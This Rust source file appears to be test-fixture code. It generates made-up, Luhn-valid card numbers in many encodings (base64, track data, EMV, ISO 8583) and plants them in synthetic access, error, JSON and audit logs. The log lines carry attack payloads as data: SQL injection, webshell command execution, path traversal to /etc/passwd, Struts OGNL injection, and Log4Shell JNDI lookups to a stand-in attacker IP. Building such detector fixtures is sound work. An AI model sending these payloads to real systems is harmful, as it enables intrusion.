//! Made-up card numbers in every spelling, planted in every field of every kind of log.

use std::fmt::Write;

/// Cards that are made up one after the other, and where each was planted.
pub(crate) struct Planter {
    seed: u64,
    /// Every card number.
    pub(crate) cards: Vec<String>,
}

/// How numbers of the brands begin and how long they are; none is of a published test range.
const BRANDS: [(&str, usize); 9] = [
    ("4929", 16),
    ("4716", 16),
    ("4", 16),
    ("5312", 16),
    ("2298", 16),
    ("3738", 15),
    ("3540", 16),
    ("6011", 16),
    ("6258", 16),
];

impl Planter {
    pub(crate) fn new() -> Self {
        Self { seed: 11, cards: Vec::new() }
    }

    /// The next number of a linear congruential generator (Knuth's MMIX constants).
    fn random(&mut self) -> u64 {
        self.seed = self
            .seed
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.seed >> 33
    }

    /// A new made-up card number with a right check digit.
    pub(crate) fn card(&mut self) -> String {
        let (start, length) = BRANDS[self.cards.len() % BRANDS.len()];
        let mut card = start.to_owned();
        while card.len() < length - 1 {
            card.push(char::from(b'0' + (self.random() % 10) as u8));
        }
        let check = ('0'..='9').find(|c| is_valid(&format!("{card}{c}"))).unwrap();
        card.push(check);
        self.cards.push(card.clone());
        card
    }

    /// A new card in the next spelling.
    pub(crate) fn spelled(&mut self) -> String {
        let card = self.card();
        let (_, spell) = SPELLINGS[(self.random() as usize) % SPELLINGS.len()];
        spell(&card)
    }

    /// Puts a new card at every `{}`, in a random spelling; at every `{=}` in plain digits.
    pub(crate) fn fill(&mut self, template: &str) -> String {
        let mut out = String::new();
        let mut rest = template;
        while let Some(at) = rest.find("{}").into_iter().chain(rest.find("{=}")).min() {
            out.push_str(&rest[..at]);
            let plain = rest[at..].starts_with("{=}");
            out.push_str(&if plain { self.card() } else { self.spelled() });
            rest = &rest[at + if plain { 3 } else { 2 }..];
        }
        out + rest
    }
}

/// ISO/IEC 7812-1, annex B.
pub(crate) fn is_valid(card: &str) -> bool {
    let doubled = |d: u32| if d > 4 { 2 * d - 9 } else { 2 * d };
    let digits = card.bytes().rev().map(|b| u32::from(b - b'0'));
    let sum: u32 = digits.enumerate().map(|(i, d)| if i % 2 == 1 { doubled(d) } else { d }).sum();
    sum.is_multiple_of(10)
}

fn grouped(card: &str, gap: &str) -> String {
    let cuts: &[usize] = if card.len() == 15 { &[4, 10] } else { &[4, 8, 12] };
    let cut = |(i, c)| if cuts.contains(&i) { format!("{gap}{c}") } else { String::from(c) };
    card.char_indices().map(cut).collect()
}

fn each(card: &str, spell: impl Fn(u32) -> String) -> String {
    card.chars().map(|c| spell(c as u32)).collect()
}

fn hex(text: &str) -> String {
    each(text, |c| format!("{c:02X}"))
}

/// RFC 4648, section 4.
pub(crate) fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let bits =
            group.iter().fold(0u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - group.len()));
        for at in 0..=group.len() {
            out.push(char::from(SIGNS[(bits >> (18 - 6 * at) & 63) as usize]));
        }
    }
    out + &"=".repeat((3 - bytes.len() % 3) % 3)
}

type Spelling = (&'static str, fn(&str) -> String);

/// What follows the expiry and the service code of every planted track: it must occur nowhere.
pub(crate) const DISCRETIONARY: &str = "8316407529931";

/// Every spelling.
pub(crate) const SPELLINGS: &[Spelling] = &[
    ("plain", str::to_owned),
    ("plain under a key", |c| format!("card_no={c}")),
    ("hyphens", |c| grouped(c, "-")),
    ("blanks", |c| grouped(c, " ")),
    ("dots", |c| grouped(c, ".")),
    ("plus signs", |c| grouped(c, "+")),
    ("percent blanks", |c| grouped(c, "%20")),
    ("percent hyphens", |c| grouped(c, "%2D")),
    ("no-break blanks", |c| grouped(c, "\u{a0}")),
    ("escaped no-break blanks", |c| grouped(c, "\\u00a0")),
    ("full-width", |c| each(c, |n| char::from_u32(n + 0xFEE0).unwrap().to_string())),
    ("full-width, percent", |c| each(c, |n| format!("%EF%BC%{:02X}", n - 0x30 + 0x90))),
    ("percent", |c| each(c, |n| format!("%{n:02X}"))),
    ("percent twice", |c| each(c, |n| format!("%25{n:02x}"))),
    ("\\u", |c| each(c, |n| format!("\\u{n:04x}"))),
    ("\\x", |c| each(c, |n| format!("\\x{n:02x}"))),
    ("HTML, decimal", |c| each(c, |n| format!("&#{n};"))),
    ("HTML, hexadecimal", |c| each(c, |n| format!("&#x{n:x};"))),
    ("base64", |c| base64(format!("card_no={c}&expire=2003").as_bytes())),
    ("base64 of JSON", |c| base64(format!("{{\"pan\":\"{c}\"}}").as_bytes()).replace('=', "")),
    ("base64, percent", |c| base64(format!("id=1&card={c}").as_bytes()).replace('=', "%3D")),
    ("split fields", |c| {
        let (a, rest) = c.split_at(4);
        let (b, rest) = rest.split_at(4);
        let (c, d) = rest.split_at(4);
        format!("card1={a}&card2={b}&card3={c}&card4={d}")
    }),
    ("track 1", |c| format!("%B{c}^YAMADA/TARO^2912101{DISCRETIONARY}?")),
    ("track 2", |c| format!(";{c}=2912101{DISCRETIONARY}?")),
    ("EMV, tag 5A", |c| format!("5A08{c}{}", if c.len() == 15 { "F" } else { "" })),
    ("EMV, tag 57", |c| {
        let track = format!("{c}D2912101{DISCRETIONARY}");
        let pad = if track.len() % 2 == 1 { "F" } else { "" };
        format!("57{:02X}{track}{pad}", track.len().div_ceil(2))
    }),
    ("ISO 8583", |c| format!("02007000000000000000{:02}{c}000000000000010000", c.len())),
    ("ISO 8583, hexadecimal", |c| {
        hex(&format!("02007000000000000000{:02}{c}000000000000010000", c.len()))
    }),
];

/// A log: its path, and its lines, of which `{}` are fields.
pub(crate) struct Log {
    pub(crate) path: &'static str,
    pub(crate) head: &'static str,
    pub(crate) lines: &'static [&'static str],
    /// How often the lines stand in the log.
    pub(crate) times: usize,
}

/// The logs: every kind, every field, most of them attacks, so that they become findings; some by
/// an intruder who is followed, so that everything he did is told.
pub(crate) const LOGS: &[Log] = &[
    Log {
        path: "access.log",
        head: "",
        times: 120,
        lines: &[
            r#"203.0.113.66 - - [08/Mar/2017:05:12:07 +0900] "GET /tax/{}?q={}&id=1'%20union%20select%201,2-- HTTP/1.1" 200 7311 "https://h/?{}" "sqlmap/1.0 {}""#,
            r#"203.0.113.66 - {} [08/Mar/2017:05:13:07 +0900] "POST /tax/img/{=}.jsp?cmd=cat+%2Fetc%2Fpasswd&x={} HTTP/1.1" 200 231 "-" "M{=}""#,
            r#"203.0.113.66 - {=} [08/Mar/2017:05:14:07 +0900] "GET /tax/img/{=}.tar.gz HTTP/1.1" 200 48211334 "-" "M{=}""#,
            r#"198.51.100.9 - - [08/Mar/2017:05:15:07 +0900] "GET /a?{}=1&f=../../../../etc/passwd HTTP/1.1" 404 7 "https://{=}.example/{}" "{}""#,
            r#"203.0.113.66 - - [08/Mar/2017:05:16:07 +0900] "GET /${jndi:ldap://203.0.113.66/{}} HTTP/1.1" 200 7 "-" "${jndi:ldap://{=}.example/a}""#,
            r"203.0.113.66 what no {} format {} knows ../../../etc/passwd",
        ],
    },
    Log {
        path: "vhost/access.log",
        head: "",
        times: 80,
        lines: &[
            r#"{=}.shop.example:443 203.0.113.66 - - [08/Mar/2017:05:12:07 +0900] "GET /index.action?c={} HTTP/1.1" 200 7 "-" "%{(#nike='multipart/form-data').(#cmd='id {}')}""#,
            r#"h{=}:443 203.0.113.66 - - [08/Mar/2017:05:12:08 +0900] "GET https://{=}.example/.env?{} HTTP/1.1" 200 700 "-" "-""#,
        ],
    },
    Log {
        path: "w3c/u_ex170308.log",
        head: "#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username c-ip cs(User-Agent) cs(Referer) cs(Cookie) cs-host sc-status sc-bytes\n",
        times: 60,
        lines: &[
            "2017-03-08 05:12:07 GET /{=}.aspx id=1'+union+select+{=} {=} 203.0.113.66 M{=} http://h/{=} s={=} {=}.example 200 99",
        ],
    },
    Log {
        path: "json/access.json",
        head: "",
        times: 120,
        lines: &[
            r#"{"time":"2017-03-08T05:12:07+09:00","client_ip":"203.0.113.66","method":"POST","uri":"/{}?a={}","status":200,"bytes_sent":9,"referer":"{}","http_user_agent":"{}","http_host":"{=}.example","user":"{}","cookie":"{}","x_forwarded_for":"203.0.113.9, {=}","request_body":"p=<script>{}</script>","response_body":"uid=0(root) gid=0(root) {}","request_id":"{}","session_id":"{}","{}":"x","x":{"{=}":{"{}":1}}}"#,
        ],
    },
    Log {
        path: "gateway/gateway.json",
        head: "",
        times: 100,
        lines: &[
            r#"{"ts":"2017-03-08T05:12:07+09:00","level":"INFO","site":"{=}.example","op":"SearchTrade{=}","client_ip":"203.0.113.66","shop_id":"{}","order_id":"{}","status":"{}","error_code":"{}","cardNo":"{}","securityCode":"739","msg":"${jndi:ldap://x/{}}"}"#,
            r#"{"time":"2017-03-08T05:12:07+09:00","action":"blocked","client_ip":"203.0.113.66","host":"shop.example","rule_id":"{}","message":"{}","{}":"{}"}"#,
        ],
    },
    Log {
        path: "kv/app.log",
        head: "",
        times: 100,
        lines: &[
            r#"time=2017-03-08T05:12:07+09:00 level=error msg="{} java.lang.ProcessBuilder" op={} user={} client_ip=203.0.113.66 session_id={} request_id={} {}=1 cvv=739"#,
        ],
    },
    Log {
        path: "app/app.log",
        head: "",
        times: 120,
        lines: &[
            "2017-03-08 05:12:07,412 WARN  [exec-{=}] j.e.{=}.Auth - login of {} failed ${jndi:ldap://x/{}}\norg.apache.commons.fileupload.FileUploadBase$InvalidContentTypeException: content type header is %{(#nike='multipart/form-data').(#cmd='id {}')}\n\tat jp.example.Pay{=}.run(Pay.java:{=})\nCaused by: java.sql.SQLException: {}",
        ],
    },
    Log {
        path: "error/error.log",
        head: "",
        times: 80,
        lines: &[
            r"[Wed Mar 08 05:12:07.010092 2017] [core:error] [pid {=}:tid 14] [client 203.0.113.66:37752] AH00126: Invalid URI in request GET /{}/../../etc/passwd, referer: http://{}/",
            r#"[Wed Mar 08 05:12:07.010092 2017] [:error] [pid 2560:tid 14] [client 203.0.113.66:37752] ModSecurity: Warning. [id "944100"] [msg "{}"] [data "{}"] [hostname "{=}.example"] [uri "/{}"] [unique_id "{}"]"#,
        ],
    },
    Log {
        path: "nginx/error.log",
        head: "",
        times: 60,
        lines: &[
            r#"2017/03/08 05:12:07 [error] 10#10: *7 open() "/{}" failed (2: No such file or directory), client: 203.0.113.66, server: {=}, request: "GET /{}?q=../../../etc/passwd HTTP/1.1", host: "{=}.example", referrer: "http://h/{}""#,
        ],
    },
    Log {
        path: "audit/modsec_audit.log",
        head: "",
        times: 60,
        lines: &[
            "--c0ffee01-A--\n[08/Mar/2017:05:12:07 +0900] {=} 203.0.113.66 50212 10.0.0.1 80\n--c0ffee01-B--\nPOST /a?b={} HTTP/1.1\nHost: {=}.example\nUser-Agent: {}\nX-{=}: {}\nContent-Type: %{(#nike='multipart/form-data').(#cmd='id')}\nCookie: s={}\n\n--c0ffee01-C--\nc={}&card_no={}&cvv=739\n--c0ffee01-E--\nuid=0(root) {}\n--c0ffee01-F--\nHTTP/1.1 200 OK\nX-R: {}\n\n--c0ffee01-H--\nMessage: Warning. [id \"944100\"] [msg \"{}\"]\n\n--c0ffee01-Z--\n",
        ],
    },
    Log {
        path: "csv/export.csv",
        head: "time,client_ip,{=},{},order,note\n",
        times: 100,
        lines: &["2017-03-08T05:12:07+09:00,203.0.113.66,{=},{=},{=},\"{} ../../../etc/passwd\""],
    },
    Log {
        path: "syslog/messages",
        head: "",
        times: 80,
        lines: &[
            r#"<134>Mar  8 05:12:07 h{=} nginx[{=}]: 203.0.113.66 - - [08/Mar/2017:05:12:07 +0900] "GET /{}?q=union+select+{} HTTP/1.1" 200 7 "-" "{}""#,
            "Mar  8 05:12:07 host sshd[77]: Failed password for {} from 203.0.113.66 port 22 ssh2 {}",
        ],
    },
    Log {
        path: "haproxy/haproxy.log",
        head: "",
        times: 60,
        lines: &[
            r#"203.0.113.66:55092 [08/Mar/2017:05:12:07.177] fe{=} be/web{=} 0/0/0/0/0 200 396 - - ---- 1/1/0/0/0 0/0 {{}|{=}.example} "GET /q?x={}&f=../../../../etc/passwd HTTP/1.1""#,
        ],
    },
    Log {
        path: "text/notes.txt",
        head: "",
        times: 40,
        lines: &["{} what {} nobody {} knows ../../../etc/passwd {}"],
    },
];

/// A log's text, its lines one in `part` times.
pub(crate) fn written(log: &Log, part: usize, planter: &mut Planter) -> String {
    let mut text = planter.fill(log.head);
    for _ in 0..log.times / part {
        for line in log.lines {
            writeln!(text, "{}", planter.fill(line)).unwrap();
        }
    }
    text
}
